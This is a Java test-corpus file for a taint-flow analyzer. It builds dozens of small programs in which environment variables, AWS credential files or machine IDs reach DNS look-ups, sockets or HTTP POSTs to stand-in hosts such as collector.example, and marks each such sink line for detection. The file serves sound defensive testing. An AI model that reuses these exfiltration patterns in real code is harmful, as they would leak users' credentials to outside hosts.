package dev.clearbox.analyzers.source;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * The flow corpus: small programs, each covering one construct of the section 3, with
 * {@code // expect: EXFIL} on every sink line a source reaches. A case without a marker is a negative
 * case: no path may be reported in it. {@code Send} (in every case's package) is the sink: a DNS
 * look-up of its argument; {@code System.getenv} is the source unless a case says otherwise.
 */
final class FlowCorpus {
    /** One case: its name, the construct it covers, and its files (relative path to text). */
    record Case(String name, String construct, Map<String, String> files) {
    }

    private static final String SEND = """
            package PKG;
            import java.net.InetAddress;
            final class Send {
                static void dns(String name) throws Exception {
                    InetAddress.getByName(name); // expect: EXFIL
                }
            }
            """;

    private final List<Case> cases = new ArrayList<>();

    private FlowCorpus() {
    }

    static List<Case> all() {
        FlowCorpus c = new FlowCorpus();
        c.positives();
        c.negatives();
        return List.copyOf(c.cases);
    }

    private void add(String name, String construct, String... files) {
        Map<String, String> map = new LinkedHashMap<>();
        String pkg = "c" + cases.size();
        for (String f : files) {
            String text = f.replace("PKG", pkg);
            String type = text.replaceAll("(?s).*?(?:class|interface|record)\\s+(\\w+).*", "$1");
            map.put("src/" + pkg + "/" + type + ".java", text);
        }
        cases.add(new Case(name, construct, map));
    }

    /** A case whose sink is written inline (no {@code Send} helper). */
    private void inline(String name, String construct, String... files) {
        add(name, construct, files);
    }

    /** A case that uses the shared {@code Send.dns} sink (its marker counts as expected only if reached). */
    private void viaSend(String name, String construct, boolean reaches, String... files) {
        String[] all = new String[files.length + 1];
        System.arraycopy(files, 0, all, 0, files.length);
        all[files.length] = reaches ? SEND : SEND.replace(" // expect: EXFIL", "");
        add(name, construct, all);
    }

    /**
     * {@code count} classes {@code prefix1..prefixN} implementing {@code iface}, each with {@code body} as its
     * members, except those {@code special} names (by number) which get their own.
     */
    private static List<String> implementations(String prefix, int count, String iface, String body,
                                                Map<Integer, String> special) {
        List<String> out = new ArrayList<>();
        for (int i = 1; i <= count; i++) {
            out.add("package PKG;\nclass " + prefix + i + " implements " + iface + " {\n"
                    + special.getOrDefault(i, body) + "}\n");
        }
        return out;
    }

    /** {@code count} unrelated classes {@code prefix1..prefixN}, each with {@code body}, except the {@code special} ones. */
    private static List<String> sameNamed(String prefix, int count, String body, Map<Integer, String> special) {
        List<String> out = new ArrayList<>();
        for (int i = 1; i <= count; i++) {
            out.add("package PKG;\nclass " + prefix + i + " {\n" + special.getOrDefault(i, body) + "}\n");
        }
        return out;
    }

    private static String[] files(List<String> generated, String... written) {
        List<String> all = new ArrayList<>(List.of(written));
        all.addAll(generated);
        return all.toArray(String[]::new);
    }

    private void positives() {
        viaSend("constant-true condition and a reassigned local boolean", "dead code: only constant branches skipped", true, """
                package PKG;
                class A {
                    static final int LEVEL = 3;
                    void f(boolean flag) throws Exception {
                        String s = System.getenv("TOKEN");
                        boolean b = false;
                        String x = "h.example";
                        if (flag) {
                            b = true;
                        }
                        if (b) {
                            x = s;
                        }
                        if (LEVEL > 2 && x != null) {
                            Send.dns(x);
                        }
                    }
                }
                """);
        viaSend("a same-named nested class lends no constant to a condition", "dead code: constants by Java's name resolution", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        String s = System.getenv("TOKEN");
                        if (Integer.MAX_VALUE > 0) {
                            Send.dns(s);
                        }
                    }
                }
                """, """
                package PKG;
                class Decoy {
                    static class Integer {
                        static final int MAX_VALUE = -1;
                    }
                }
                """);
        viaSend("an inner class's own constant shadows the outer one in a condition", "dead code: constants by Java's name resolution", true, """
                package PKG;
                class A {
                    static final boolean ON = false;
                    void f() throws Exception {
                        String s = System.getenv("TOKEN");
                        Runnable r = new Runnable() {
                            static final boolean ON = true;
                            public void run() {
                                if (ON) {
                                    try {
                                        Send.dns(s);
                                    } catch (Exception e) {
                                    }
                                }
                            }
                        };
                        r.run();
                        new Inner().g(s);
                    }
                    static class Inner {
                        static final boolean ON = true;
                        void g(String t) throws Exception {
                            if (ON) {
                                Send.dns(t);
                            }
                        }
                    }
                }
                """);
        add("sanitiser: a same-named method of another type is no sanitiser", "positive: sanitiser matched by type", """
                package PKG;
                import java.net.InetAddress;
                class A {
                    void f(java.util.Scanner in) throws Exception {
                        String t = System.getenv("TOKEN");
                        InetAddress.getByName(t.concat(".example")); // expect: EXFIL
                    }
                }
                """);
        inline("a sink on a type nobody can see is matched by method name", "unresolved supertypes: receiver type missing", """
                package PKG;
                import org.vendorlib.transport.Channel;
                class A {
                    void f(Channel channel) throws Exception {
                        channel.send(System.getenv("TOKEN")); // expect: EXFIL
                    }
                }
                """);
        viaSend("a source inherited from a supertype nobody can see is matched by method name", "unresolved supertypes: static call on a missing type", true, """
                package PKG;
                class A extends org.vendorlib.Platform {
                    void f() throws Exception {
                        String v = org.vendorlib.Platform.getenv("TOKEN");
                        Send.dns(v);
                    }
                }
                """);
        viaSend("a fresh object's field read back after a strong update keeps the last value", "fields: per allocation, strong update", true, """
                package PKG;
                class Box {
                    String value;
                }
                """, """
                package PKG;
                class A {
                    void f() throws Exception {
                        Box box = new Box();
                        box.value = "h.example";
                        box.value = System.getenv("TOKEN");
                        Send.dns(box.value);
                    }
                }
                """);
        viaSend("a fresh object that escapes into a call carries its field's data there", "fields: per allocation, escape", true, """
                package PKG;
                class Box {
                    String value;
                }
                """, """
                package PKG;
                class A {
                    void f(boolean b) throws Exception {
                        Box box = new Box();
                        if (b) {
                            box.value = System.getenv("TOKEN");
                        }
                        g(box);
                    }
                    void g(Box box) throws Exception {
                        Send.dns(box.value);
                    }
                }
                """);
        viaSend("an object whose constructor hands 'this' away is not tracked per allocation", "fields: per allocation, constructor lets this escape", true, """
                package PKG;
                import java.util.ArrayList;
                import java.util.List;
                class Box {
                    static final List<Box> ALL = new ArrayList<>();
                    String value;
                    Box() {
                        ALL.add(this);
                    }
                }
                """, """
                package PKG;
                class A {
                    void f() throws Exception {
                        Box box = new Box();
                        box.value = System.getenv("TOKEN");
                    }
                    void g() throws Exception {
                        Send.dns(Box.ALL.get(0).value);
                    }
                }
                """);
        viaSend("a map's value read back under the constant key it was put with", "collections: constant map keys", true, """
                package PKG;
                import java.util.HashMap;
                import java.util.Map;
                class A {
                    void f() throws Exception {
                        Map<String, String> m = new HashMap<>();
                        m.put("token", System.getenv("TOKEN"));
                        m.put("host", "h.example");
                        Send.dns(m.get("token"));
                    }
                }
                """);
        viaSend("a map entry put under a key nobody knows may be any key's value", "collections: unknown map key", true, """
                package PKG;
                import java.util.HashMap;
                import java.util.Map;
                class A {
                    void f(String key) throws Exception {
                        Map<String, String> m = new HashMap<>();
                        m.put(key, System.getenv("TOKEN"));
                        Send.dns(m.get("host"));
                    }
                }
                """);
        viaSend("a byte read with read() is the data; read(buf) fills the buffer", "library effects: read by arity", true, """
                package PKG;
                import java.io.FileInputStream;
                import java.io.InputStream;
                class A {
                    void f() throws Exception {
                        InputStream in = new FileInputStream("/etc/secret");
                        int b = in.read();
                        Send.dns("x" + (char) b);
                        byte[] buf = new byte[16];
                        in.read(buf);
                        Send.dns(new String(buf));
                    }
                }
                """);
        viaSend("a call on a local allocated here runs the allocated class's method", "dispatch: allocation known in the method", true, """
                package PKG;
                interface Sink {
                    void put(String s) throws Exception;
                }
                """, """
                package PKG;
                class Loud implements Sink {
                    public void put(String s) throws Exception {
                        Send.dns(s);
                    }
                }
                """, """
                package PKG;
                class Quiet implements Sink {
                    public void put(String s) {
                    }
                }
                """, """
                package PKG;
                class A {
                    void f(boolean b) throws Exception {
                        Sink s = new Quiet();
                        if (b) {
                            s = new Loud();
                        }
                        s.put(System.getenv("TOKEN"));
                    }
                }
                """);
        inline("local variable", "locals", """
                package PKG;
                class A {
                    void f() throws Exception {
                        String v = System.getenv("TOKEN");
                        String w = v;
                        java.net.InetAddress.getByName(w + ".x.example"); // expect: EXFIL, from=4, via=5
                    }
                }
                """);
        viaSend("parameter to a sink in another method", "parameters", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        Send.dns(System.getenv("TOKEN"));
                    }
                }
                """);
        inline("return value of a helper", "return values", """
                package PKG;
                class A {
                    static String token() {
                        return System.getenv("TOKEN");
                    }
                    void f() throws Exception {
                        new java.net.URL("https://x.example/?t=" + token()).openStream(); // expect: EXFIL, from=4
                    }
                }
                """);
        inline("identity helper in between", "parameters and return values", """
                package PKG;
                class A {
                    static String trim(String s) {
                        return s.strip();
                    }
                    void f() throws Exception {
                        String t = trim(System.getenv("TOKEN"));
                        java.net.InetAddress.getByName(t); // expect: EXFIL, from=7, via=4
                    }
                }
                """);
        viaSend("instance field set in constructor", "instance fields", true, """
                package PKG;
                class A {
                    private final String secret;
                    A() {
                        this.secret = System.getProperty("user.name");
                    }
                    void report() throws Exception {
                        Send.dns(secret);
                    }
                }
                """);
        viaSend("static field initializer", "static fields, static initialisers", true, """
                package PKG;
                class A {
                    static final String HOME = System.getenv("HOME");
                    void report() throws Exception {
                        Send.dns(HOME);
                    }
                }
                """);
        viaSend("static initializer block", "static initialisers", true, """
                package PKG;
                class A {
                    static String user;
                    static {
                        user = System.getProperty("user.name");
                    }
                    static void report() throws Exception {
                        Send.dns(A.user);
                    }
                }
                """);
        viaSend("array element", "arrays", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        String[] a = new String[2];
                        a[0] = System.getenv("TOKEN");
                        Send.dns(a[0]);
                    }
                }
                """);
        viaSend("System.arraycopy", "arrays (System.arraycopy)", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        char[] src = System.getenv("TOKEN").toCharArray();
                        char[] dst = new char[src.length];
                        System.arraycopy(src, 0, dst, 0, src.length);
                        Send.dns(new String(dst));
                    }
                }
                """);
        viaSend("list add and get", "collections", true, """
                package PKG;
                import java.util.ArrayList;
                import java.util.List;
                class A {
                    void f() throws Exception {
                        List<String> l = new ArrayList<>();
                        l.add(System.getenv("TOKEN"));
                        Send.dns(l.get(0));
                    }
                }
                """);
        viaSend("Collections.addAll and map", "collections (Collections, Map)", true, """
                package PKG;
                import java.util.*;
                class A {
                    void f() throws Exception {
                        List<String> l = new ArrayList<>();
                        Collections.addAll(l, "a", System.getenv("TOKEN"));
                        Map<String, String> m = new HashMap<>();
                        m.put("k", String.join(",", l));
                        Send.dns(m.get("k"));
                    }
                }
                """);
        viaSend("stream map and collect", "streams", true, """
                package PKG;
                import java.util.List;
                import java.util.stream.Collectors;
                class A {
                    void f() throws Exception {
                        List<String> names = List.of(System.getenv("A"), System.getenv("B"));
                        String joined = names.stream().map(s -> s.toUpperCase()).collect(Collectors.joining("."));
                        Send.dns(joined);
                    }
                }
                """);
        inline("forEach lambda with the sink inside", "lambdas, streams", """
                package PKG;
                import java.util.List;
                class A {
                    void f() {
                        List<String> keys = List.of(System.getenv("KEY"));
                        keys.forEach(k -> {
                            try {
                                java.net.InetAddress.getByName(k); // expect: EXFIL, from=5
                            } catch (Exception e) {
                                throw new RuntimeException(e);
                            }
                        });
                    }
                }
                """);
        viaSend("StringBuilder", "string building", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        StringBuilder b = new StringBuilder("id-");
                        b.append(System.getProperty("user.name")).append(".example");
                        Send.dns(b.toString());
                    }
                }
                """);
        viaSend("String.format", "string formatting", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        String host = String.format("%s.%s", System.getenv("USER"), "x.example");
                        Send.dns(host);
                    }
                }
                """);
        viaSend("supplier lambda capturing a local", "lambdas", true, """
                package PKG;
                import java.util.function.Supplier;
                class A {
                    void f() throws Exception {
                        String secret = System.getenv("TOKEN");
                        Supplier<String> s = () -> secret;
                        Send.dns(s.get());
                    }
                }
                """);
        viaSend("function lambda applied", "lambdas", true, """
                package PKG;
                import java.util.function.Function;
                class A {
                    void f() throws Exception {
                        Function<String, String> label = x -> "p-" + x;
                        Send.dns(label.apply(System.getenv("TOKEN")));
                    }
                }
                """);
        viaSend("anonymous class capturing a local", "anonymous classes", true, """
                package PKG;
                class A {
                    void f() {
                        String secret = System.getenv("TOKEN");
                        Runnable r = new Runnable() {
                            @Override
                            public void run() {
                                try {
                                    Send.dns(secret);
                                } catch (Exception e) {
                                    throw new IllegalStateException(e);
                                }
                            }
                        };
                        new Thread(r).start();
                    }
                }
                """);
        viaSend("inner class reading an outer field", "inner classes", true, """
                package PKG;
                class A {
                    private String token = System.getenv("TOKEN");
                    class Uploader {
                        void go() throws Exception {
                            Send.dns(token);
                        }
                    }
                }
                """);
        add("interface dispatch", "interface dispatch", """
                package PKG;
                interface Channel {
                    void send(String data) throws Exception;
                }
                """, """
                package PKG;
                class DnsChannel implements Channel {
                    @Override
                    public void send(String data) throws Exception {
                        java.net.InetAddress.getByName(data + ".c.example"); // expect: EXFIL, from=A.java:4
                    }
                }
                """, """
                package PKG;
                class A {
                    void f(Channel c) throws Exception {
                        c.send(System.getenv("TOKEN"));
                    }
                }
                """);
        add("dispatch to several implementations: argument", "interface dispatch", """
                package PKG;
                interface Channel {
                    void send(String data) throws Exception;
                }
                """, """
                package PKG;
                class LogChannel implements Channel {
                    @Override
                    public void send(String data) {
                        System.out.println(data.length());
                    }
                }
                """, """
                package PKG;
                class DnsChannel implements Channel {
                    @Override
                    public void send(String data) throws Exception {
                        java.net.InetAddress.getByName(data + ".c.example"); // expect: EXFIL, from=A.java:4
                    }
                }
                """, """
                package PKG;
                class A {
                    void f(Channel c) throws Exception {
                        c.send(System.getenv("TOKEN"));
                    }
                }
                """);
        // more implementations than a call once followed (48): every one is, through nodes its target set shares
        add("dispatch to 60 implementations: the 60th sends its argument", "interface dispatch: many implementations",
                files(implementations("Ch", 60, "Channel", """
                            public void send(String data) {
                                System.out.println(data.length());
                            }
                        """, Map.of(60, """
                            public void send(String data) throws Exception {
                                java.net.InetAddress.getByName(data + ".c.example"); // expect: EXFIL, from=A.java:4
                            }
                        """)), """
                        package PKG;
                        interface Channel {
                            void send(String data) throws Exception;
                        }
                        """, """
                        package PKG;
                        class A {
                            void f(Channel c) throws Exception {
                                c.send(System.getenv("TOKEN"));
                            }
                            void g(Channel c) throws Exception {
                                c.send("clean");
                            }
                        }
                        """));
        add("dispatch to 60 implementations: the 60th returns its argument (joined summaries)",
                "interface dispatch: many implementations",
                files(implementations("Co", 60, "Codec", """
                            public String code(String s) {
                                return "x";
                            }
                        """, Map.of(60, """
                            public String code(String s) {
                                return s + "!";
                            }
                        """)), """
                        package PKG;
                        interface Codec {
                            String code(String s);
                        }
                        """, """
                        package PKG;
                        class A {
                            void f(Codec c) throws Exception {
                                java.net.InetAddress.getByName(c.code(System.getenv("TOKEN"))); // expect: EXFIL, from=A.java:4
                            }
                            void g(Codec c) throws Exception {
                                java.net.InetAddress.getByName(c.code("clean"));
                            }
                        }
                        """));
        add("dispatch to 60 implementations: the 60th returns a secret", "interface dispatch: many implementations",
                files(implementations("St", 60, "Store", """
                            public String get() {
                                return "fixed";
                            }
                        """, Map.of(60, """
                            public String get() {
                                return System.getenv("TOKEN");
                            }
                        """)), """
                        package PKG;
                        interface Store {
                            String get();
                        }
                        """, """
                        package PKG;
                        class A {
                            void f(Store s) throws Exception {
                                java.net.InetAddress.getByName(s.get()); // expect: EXFIL, from=St60.java:4
                            }
                            void g(Store s) throws Exception {
                                java.net.InetAddress.getByName(s.get() + "x"); // expect: EXFIL, from=St60.java:4
                            }
                        }
                        """));
        // a receiver of unknown type once reached same-named methods only when there were at most 8, else none
        add("receiver of unknown type (var): the 12th of 12 same-named methods sends its argument",
                "name-matched call: many same-named methods",
                files(sameNamed("Hd", 12, """
                            public void handle(String data) {
                                System.out.println(data.length());
                            }
                        """, Map.of(12, """
                            public void handle(String data) throws Exception {
                                java.net.InetAddress.getByName(data + ".c.example"); // expect: EXFIL, from=A.java:5
                            }
                        """)), """
                        package PKG;
                        class A {
                            void f(java.util.function.Supplier<?> registry) throws Exception {
                                var h = registry.get();
                                h.handle(System.getenv("TOKEN"));
                            }
                        }
                        """));
        add("reflection on a class not known: the 12th of 12 same-named methods sends its argument",
                "name-matched call: many same-named methods",
                files(sameNamed("Rf", 12, """
                            public static void x(String data) {
                                System.out.println(data.length());
                            }
                        """, Map.of(12, """
                            public static void x(String data) throws Exception {
                                java.net.InetAddress.getByName(data); // expect: EXFIL, from=A.java:4
                            }
                        """)), """
                        package PKG;
                        class A {
                            void f(String cls) throws Exception {
                                Class.forName(cls).getMethod("x", String.class).invoke(null, System.getenv("TOKEN"));
                            }
                        }
                        """));
        add("dispatch to several implementations: result", "interface dispatch", """
                package PKG;
                interface Store {
                    String get();
                }
                """, """
                package PKG;
                class EnvStore implements Store {
                    public String get() {
                        return System.getenv("TOKEN");
                    }
                }
                """, """
                package PKG;
                class FixedStore implements Store {
                    public String get() {
                        return "fixed";
                    }
                }
                """, """
                package PKG;
                class A {
                    void f(Store s) throws Exception {
                        java.net.InetAddress.getByName(s.get()); // expect: EXFIL, from=EnvStore.java:4
                    }
                }
                """);
        add("inheritance: template method", "inheritance", """
                package PKG;
                abstract class Base {
                    void publish() throws Exception {
                        transmit(System.getProperty("user.home"));
                    }
                    abstract void transmit(String data) throws Exception;
                }
                """, """
                package PKG;
                class Impl extends Base {
                    @Override
                    void transmit(String data) throws Exception {
                        new java.net.Socket(data, 443); // expect: EXFIL, from=Base.java:4
                    }
                }
                """);
        viaSend("exception message", "exceptions", true, """
                package PKG;
                class A {
                    void check() {
                        throw new IllegalStateException("bad key " + System.getenv("KEY"));
                    }
                    void f() throws Exception {
                        try {
                            check();
                        } catch (IllegalStateException e) {
                            Send.dns(e.getMessage());
                        }
                    }
                }
                """);
        add("across packages", "across files and packages", """
                package PKG;
                public class Reader {
                    public static String read() throws Exception {
                        return new String(java.nio.file.Files.readAllBytes(java.nio.file.Path.of("/etc/machine-id")));
                    }
                }
                """, """
                package PKG.net;
                public class Uplink {
                    public void go() throws Exception {
                        java.net.InetAddress.getByName(PKG.Reader.read()); // expect: EXFIL, from=Reader.java:4
                    }
                }
                """.replace("PKG.net;", "PKG;"));
        viaSend("Base64 and cipher do not clean", "transformers", true, """
                package PKG;
                import java.util.Base64;
                import javax.crypto.Cipher;
                class A {
                    void f(Cipher cipher) throws Exception {
                        byte[] sealed = cipher.doFinal(System.getenv("KEY").getBytes());
                        Send.dns(Base64.getEncoder().encodeToString(sealed));
                    }
                }
                """);
        inline("written to a socket stream", "sink connections", """
                package PKG;
                import java.io.OutputStream;
                import java.net.Socket;
                class A {
                    void f() throws Exception {
                        Socket socket = new Socket("collector.example", 443);
                        OutputStream out = socket.getOutputStream(); // expect: EXFIL, from=9, via=10
                        byte[] data = System.getenv("TOKEN").getBytes();
                        out.write(data);
                    }
                }
                """.replace("from=9, via=10", "from=8, via=9"));
        inline("wrapped writer on a connection", "sink connections, string building", """
                package PKG;
                import java.io.PrintWriter;
                import java.net.HttpURLConnection;
                import java.net.URL;
                class A {
                    void f() throws Exception {
                        HttpURLConnection c = (HttpURLConnection) new URL("https://x.example/u").openConnection();
                        PrintWriter w = new PrintWriter(c.getOutputStream()); // expect: EXFIL, from=9
                        w.println(System.getProperty("user.name"));
                    }
                }
                """);
        inline("a channel's write sends its argument, a URL's connection its receiver", "sink payload: arguments, receiver where declared", """
                package PKG;
                import java.net.URL;
                import java.nio.ByteBuffer;
                import java.nio.channels.SocketChannel;
                class A {
                    void f(SocketChannel ch) throws Exception {
                        String token = System.getenv("TOKEN");
                        ch.write(ByteBuffer.wrap(token.getBytes())); // expect: EXFIL, from=7
                        URL url = new URL("https://x.example/?t=" + token);
                        url.openConnection(); // expect: EXFIL, from=7, via=9
                    }
                }
                """);
        viaSend("Formatter.format into a StringBuilder it wraps", "library effects: receiver and wrapped builder (model effects)", true, """
                package PKG;
                import java.util.Formatter;
                class A {
                    void f() throws Exception {
                        StringBuilder sb = new StringBuilder("id-");
                        Formatter fmt = new Formatter(sb);
                        fmt.format("%s.example", System.getenv("TOKEN"));
                        Send.dns(sb.toString());
                    }
                }
                """);
        viaSend("PrintWriter over a StringWriter, read back from the StringWriter", "library effects: wrapped writer (model effects)", true, """
                package PKG;
                import java.io.PrintWriter;
                import java.io.StringWriter;
                class A {
                    void f() throws Exception {
                        StringWriter buffer = new StringWriter();
                        PrintWriter out = new PrintWriter(buffer);
                        out.print(System.getenv("TOKEN"));
                        out.flush();
                        Send.dns(buffer.toString());
                    }
                }
                """);
        viaSend("ProcessBuilder.command(..., secret) then read back", "library effects: receiver (model effects)", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        ProcessBuilder pb = new ProcessBuilder();
                        pb.command("nslookup", System.getenv("TOKEN"));
                        Send.dns(String.join(".", pb.command()));
                    }
                }
                """);
        inline("HttpClient request body", "library builders", """
                package PKG;
                import java.net.URI;
                import java.net.http.*;
                class A {
                    void f(HttpClient client) throws Exception {
                        String body = System.getenv("AWS_SECRET_ACCESS_KEY");
                        HttpRequest r = HttpRequest.newBuilder(URI.create("https://x.example"))
                                .POST(HttpRequest.BodyPublishers.ofString(body)).build();
                        client.send(r, HttpResponse.BodyHandlers.discarding()); // expect: EXFIL, from=6
                    }
                }
                """);
        viaSend("record component", "records (fields)", true, """
                package PKG;
                record Creds(String user, String token) {
                }
                """, """
                package PKG;
                class A {
                    void f() throws Exception {
                        Creds c = new Creds("me", System.getenv("TOKEN"));
                        Send.dns(c.token());
                    }
                }
                """);
        viaSend("method reference to a project method", "method references", true, """
                package PKG;
                import java.util.List;
                class A {
                    void upload(String s) {
                        try {
                            Send.dns(s);
                        } catch (Exception e) {
                            throw new RuntimeException(e);
                        }
                    }
                    void f() {
                        List.of(System.getenv("TOKEN")).forEach(this::upload);
                    }
                }
                """);
        viaSend("method reference on a receiver of unknown type: every same-named method", "method references", true, """
                package PKG;
                import com.vendorlib.Factory;
                import java.util.List;
                class A {
                    void f(Factory factory) {
                        var sender = factory.create();
                        List.of(System.getenv("TOKEN")).forEach(sender::leak);
                    }
                }
                """, """
                package PKG;
                class Leaker {
                    void leak(String s) {
                        try {
                            Send.dns(s);
                        } catch (Exception e) {
                            throw new RuntimeException(e);
                        }
                    }
                }
                """);
        viaSend("loop-carried accumulation", "loops", true, """
                package PKG;
                class A {
                    void f(String[] keys) throws Exception {
                        String acc = "";
                        for (String k : keys) {
                            acc = acc + System.getenv(k);
                        }
                        Send.dns(acc);
                    }
                }
                """);
        viaSend("ternary and switch expression", "conditionals", true, """
                package PKG;
                class A {
                    void f(int mode) throws Exception {
                        String v = switch (mode) {
                            case 0 -> "none";
                            default -> System.getenv("TOKEN");
                        };
                        Send.dns(mode > 2 ? v : "x");
                    }
                }
                """);
        viaSend("file contents through a stream read", "arrays (read into a buffer)", true, """
                package PKG;
                import java.io.FileInputStream;
                class A {
                    void f() throws Exception {
                        byte[] buf = new byte[64];
                        try (FileInputStream in = new FileInputStream("/home/u/.aws/credentials")) {
                            in.read(buf);
                        }
                        Send.dns(new String(buf));
                    }
                }
                """);
        viaSend("reflection: Method.invoke of a constant-named method", "reflection (Method.invoke)", true, """
                package PKG;
                import java.lang.reflect.Method;
                class A {
                    void log(String line) throws Exception {
                        Send.dns(line);
                    }
                    void f() throws Exception {
                        Method m = A.class.getDeclaredMethod("log", String.class);
                        m.invoke(this, System.getenv("TOKEN"));
                    }
                }
                """);
        viaSend("reflection: Class.forName and getMethod with folded constant names, arguments in an array",
                "reflection (Class.forName, constant names)", true, """
                package PKG;
                class Agent {
                    static final String PREFIX = "PKG.";
                    static final String VERB = "up" + "load";
                    void f() throws Exception {
                        String kind = "Uploader";
                        Class<?> c = Class.forName(PREFIX + kind);
                        Object u = c.getDeclaredConstructor().newInstance();
                        c.getMethod(VERB, String.class).invoke(u, new Object[] {System.getenv("TOKEN")});
                    }
                }
                """, """
                package PKG;
                class Uploader {
                    public void upload(String s) throws Exception {
                        Send.dns(s);
                    }
                }
                """);
        viaSend("reflection: the return of a reflected method (getClass of this)", "reflection (Method.invoke result)", true, """
                package PKG;
                import java.lang.reflect.Method;
                class A {
                    String secret() {
                        return System.getenv("AWS_SECRET_ACCESS_KEY");
                    }
                    void f() throws Exception {
                        Method m = getClass().getMethod("secret");
                        Object v = m.invoke(this);
                        Send.dns((String) v);
                    }
                }
                """);
        viaSend("reflection: Constructor.newInstance with an argument", "reflection (Constructor.newInstance)", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        Class.forName("PKG.Beacon").getConstructor(String.class).newInstance(System.getenv("TOKEN"));
                    }
                }
                """, """
                package PKG;
                class Beacon {
                    Beacon(String id) throws Exception {
                        Send.dns(id);
                    }
                }
                """);
        viaSend("reflection: getClass of an allocation held in a local", "reflection (getClass)", true, """
                package PKG;
                import java.lang.reflect.Method;
                class A {
                    void f() throws Exception {
                        Object target = new Reporter();
                        Method m = target.getClass().getMethod("report", String.class);
                        m.invoke(target, System.getProperty("user.name"));
                    }
                }
                """, """
                package PKG;
                class Reporter {
                    public void report(String who) throws Exception {
                        Send.dns(who);
                    }
                }
                """);
        inline("reflection: a model sink called by reflection, its class name a constant", "reflection (library sink)", """
                package PKG;
                class A {
                    static final String RESOLVER = "java.net." + "InetAddress";
                    void f() throws Exception {
                        String host = System.getenv("TOKEN") + ".x.example";
                        Class.forName(RESOLVER).getMethod("getByName", String.class).invoke(null, host); // expect: EXFIL, from=5
                    }
                }
                """);
        viaSend("try/catch: a local tainted between two calls of the try block reaches the handler", "exceptions: catch state from the points that throw", true, """
                package PKG;
                class A {
                    void f(String port) throws Exception {
                        String host = "h.example";
                        try {
                            host = System.getenv("TOKEN");
                            Integer.parseInt(port);
                            host = "ok.example";
                        } catch (NumberFormatException e) {
                            Send.dns(host);
                        }
                    }
                }
                """);
        viaSend("throw new with a secret, caught in the same method", "exceptions: thrown data reaches the handler", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        try {
                            String k = System.getenv("KEY");
                            if (k.length() > 3) {
                                throw new IllegalArgumentException(k);
                            }
                        } catch (IllegalArgumentException e) {
                            Send.dns(e.getMessage());
                        }
                    }
                }
                """);
        viaSend("a callee's exception caught after an earlier call of it outside any try", "exceptions: thrown data reaches the handler", true, """
                package PKG;
                class A {
                    void check(String v) {
                        if (v.isEmpty()) {
                            throw new IllegalStateException("no " + System.getenv("KEY"));
                        }
                    }
                    void f() throws Exception {
                        check("a");
                        try {
                            check("b");
                        } catch (IllegalStateException e) {
                            Send.dns(e.getMessage());
                        }
                    }
                }
                """);
        viaSend("an exception the callee's own handler does not take reaches the caller's", "exceptions: thrown data reaches the handler", true, """
                package PKG;
                class A {
                    void check() {
                        try {
                            throw new IllegalStateException(System.getenv("KEY"));
                        } catch (NumberFormatException e) {
                            System.out.println("not a number");
                        }
                    }
                    void f() throws Exception {
                        try {
                            check();
                        } catch (IllegalStateException e) {
                            Send.dns(e.getMessage());
                        }
                    }
                }
                """);
        viaSend("finally after a return in the try block", "exceptions: finally from every exit", true, """
                package PKG;
                class A {
                    void f() throws Exception {
                        String x = "a.example";
                        try {
                            x = System.getenv("TOKEN");
                            return;
                        } finally {
                            Send.dns(x);
                        }
                    }
                }
                """);
        viaSend("finally after an exception thrown midway through the try block", "exceptions: finally from every exit", true, """
                package PKG;
                class A {
                    void f(String n) throws Exception {
                        String x = "a.example";
                        try {
                            x = System.getenv("TOKEN");
                            Integer.parseInt(n);
                            x = "b.example";
                        } finally {
                            Send.dns(x);
                        }
                    }
                }
                """);
        viaSend("try-with-resources: closing the resource can throw after the last statement", "exceptions: catch state from the points that throw", true, """
                package PKG;
                import java.io.IOException;
                import java.io.StringReader;
                class A {
                    void f(String n) throws Exception {
                        String k = System.getenv("TOKEN");
                        String x = "a.example";
                        try (StringReader r = new StringReader(n)) {
                            r.read();
                            x = k;
                        } catch (IOException e) {
                            Send.dns(x);
                        }
                    }
                }
                """);
        viaSend("a project class named Throwable is not java.lang.Throwable: its handler stops nothing else", "exceptions: catch state from the points that throw", true, """
                package PKG;
                class A {
                    void check() {
                        try {
                            throw new IllegalStateException(System.getenv("KEY"));
                        } catch (Throwable t) {
                            System.out.println("ignored");
                        }
                    }
                    void f() throws Exception {
                        try {
                            check();
                        } catch (IllegalStateException e) {
                            Send.dns(e.getMessage());
                        }
                    }
                }
                """, """
                package PKG;
                class Throwable extends RuntimeException {
                }
                """);
        viaSend("catch (Throwable): an error the machine raises between two statements", "exceptions: catch state from the points that throw", true, """
                package PKG;
                class A {
                    void f(String n) throws Exception {
                        String k = System.getenv("TOKEN");
                        String x = "a.example";
                        try {
                            Integer.parseInt(n);
                            x = k;
                            x = "b.example";
                        } catch (Throwable t) {
                            Send.dns(x);
                        }
                    }
                }
                """);
        viaSend("finally after a yield from a switch expression", "exceptions: finally from every exit", true, """
                package PKG;
                class A {
                    int f(int mode) throws Exception {
                        String x = "a.example";
                        int r = switch (mode) {
                            case 0 -> {
                                try {
                                    x = System.getenv("TOKEN");
                                    yield 1;
                                } finally {
                                    Send.dns(x);
                                }
                            }
                            default -> 2;
                        };
                        return r;
                    }
                }
                """);
        viaSend("an exception thrown in a catch block reaches the enclosing handler", "exceptions: thrown data reaches the handler", true, """
                package PKG;
                class A {
                    void f(String n) throws Exception {
                        try {
                            try {
                                Integer.parseInt(n);
                            } catch (NumberFormatException e) {
                                throw new IllegalStateException(System.getenv("KEY"), e);
                            }
                        } catch (IllegalStateException e) {
                            Send.dns(e.getMessage());
                        }
                    }
                }
                """);
        viaSend("a callee two calls down throws its parameter: the caller that passed the secret receives it", "exceptions: thrown data reaches the handler", true, """
                package PKG;
                class A {
                    void validate(String v) {
                        if (v.length() < 40) {
                            throw new IllegalArgumentException("too short: " + v);
                        }
                    }
                    void check(String v) {
                        validate(v.trim());
                    }
                    void f() throws Exception {
                        try {
                            check(System.getenv("KEY"));
                        } catch (IllegalArgumentException e) {
                            Send.dns(e.getMessage());
                        }
                    }
                }
                """);
